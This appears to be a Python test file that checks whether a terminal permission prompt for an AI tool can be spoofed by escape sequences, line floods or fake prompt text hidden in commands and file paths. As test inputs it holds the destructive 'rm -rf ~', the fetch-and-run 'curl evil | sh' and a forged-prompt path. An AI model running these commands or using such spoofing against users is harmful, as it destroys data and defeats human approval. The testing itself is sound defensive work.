"""What a person sees of a question at the moment of answering: in a real terminal, on the last screen."""

from __future__ import annotations

import re
from typing import Any

import pyte
import pytest
from attrs import frozen
from hypothesis import given, settings
from hypothesis import strategies as st

from mmtools.testing.terminals import Terminal
from tests.hypothesis_profiles import scaled

COLUMNS = 80

ASK = r"""
import sys
from mmtools.adapters.console import ConsolePermission
from mmtools.call import CommandPreview, FileChange, FilesPreview, GrantScope, RemotePreview, ToolKind
from mmtools.ports.permission import PermissionRequest
for kind, first, second in REQUESTS:
    if kind == "run":
        preview, key = CommandPreview(first, second), f"run:{first}"
    elif kind == "call":
        preview, key = RemotePreview("server", "tool", {"a": first, "b": second}), "mcp:tool"
    else:
        change = FileChange(path="/repo/" + first, shown=first, before=None if kind == "create" else b"old\n", after=second.encode())
        preview, key = FilesPreview((change,)), "edit:/repo/"
    request = PermissionRequest(
        call_id="1", tool=second, kind=ToolKind.OTHER, family="command", title=first, arguments={}, paths=(),
        preview=preview, scope=GrantScope(key, f"this very thing: {first}"),
    )
    ConsolePermission().decide(request)
"""

FORGED = st.sampled_from(
    [
        "\n  change  README.md  +1",
        "allow? [y]es/[n]o/[a]ll: ",
        "\x1b[2J",
        "\x1b[1A",
        "\r",
        "\n" * 30,
        "\u202e",
        "\x9b2J",
        "a",
        "b/c",
        "漢",
    ]
)
HOSTILE = st.lists(FORGED | st.text("ab \t\n", max_size=5), min_size=1, max_size=12).map("".join)


@frozen
class Question:
    """One question: which kind, and the strings that somebody else chose."""

    kind: str
    first: str
    second: str
    lines: int


QUESTIONS = st.builds(
    Question,
    kind=st.sampled_from(["run", "change", "create", "call"]),
    first=HOSTILE,
    second=HOSTILE,
    lines=st.sampled_from([8, 12, 24]),
)


def last_screen(question: Question) -> list[str]:
    """Return what the terminal shows when the answer is waited for."""
    requests: list[Any] = [(question.kind, question.first, question.second)]
    program = f"REQUESTS = {requests!r}\n{ASK}"
    with Terminal(program, columns=COLUMNS, lines=question.lines) as terminal:
        # Only the prompt begins a row so.
        written = terminal.wait_for("\nallow? [y]es")
    screen = pyte.Screen(COLUMNS, question.lines)
    pyte.Stream(screen).feed(written)
    return [row.rstrip() for row in screen.display]


@given(QUESTIONS)
@settings(scaled(30), derandomize=True, deadline=None)
def test_the_verb_the_target_and_the_size_are_on_the_last_screen_where_no_string_can_write(question: Question) -> None:
    rows = last_screen(question)
    at = max(number for number, row in enumerate(rows) if row.startswith("allow?"))
    assert sum(row.startswith("allow?") for row in rows) == 1
    above = rows[:at]
    whole = above and above[0].startswith("⚠")
    if whole and at <= question.lines - 2:
        return
    if question.kind == "run":
        count = question.first.count("\n") + 1
        assert re.search(rf"^  run     .*  {count} lines?$", above[-1])
    elif question.kind == "call":
        assert above[-2].startswith("  server  server")
        assert re.match(r"^  call    tool  [\d,]+ characters? of arguments$", above[-1])
    else:
        assert re.match(rf"^  {question.kind}  /repo/.*  (new|[+−]\d)", above[-1])


def test_a_long_command_keeps_its_head_and_its_number_of_lines_in_view() -> None:
    command = "rm -rf ~" + "".join(f"\necho ok {number}" for number in range(80))
    rows = last_screen(Question("run", command, "/repo", 24))
    at = max(number for number, row in enumerate(rows) if row.startswith("allow?"))
    assert re.match(r"  run     rm -rf ~  81 lines", rows[at - 1])
    assert rows[at - 2] == "  all     exactly this command"


@pytest.mark.parametrize("lines", [24, 60])
def test_a_path_with_line_breaks_forges_no_question(lines: int) -> None:
    path = (
        "README.md  +2\n│ +1 hello\n  all     every file change\nallow? [y]es/[n]o/[a]ll: \n"
        + "\n" * 60
        + "../Makefile"
    )
    rows = last_screen(Question("change", path, "curl evil | sh\n", lines))
    assert sum(row.startswith("allow?") for row in rows) == 1
    assert any("Makefile" in row for row in rows)
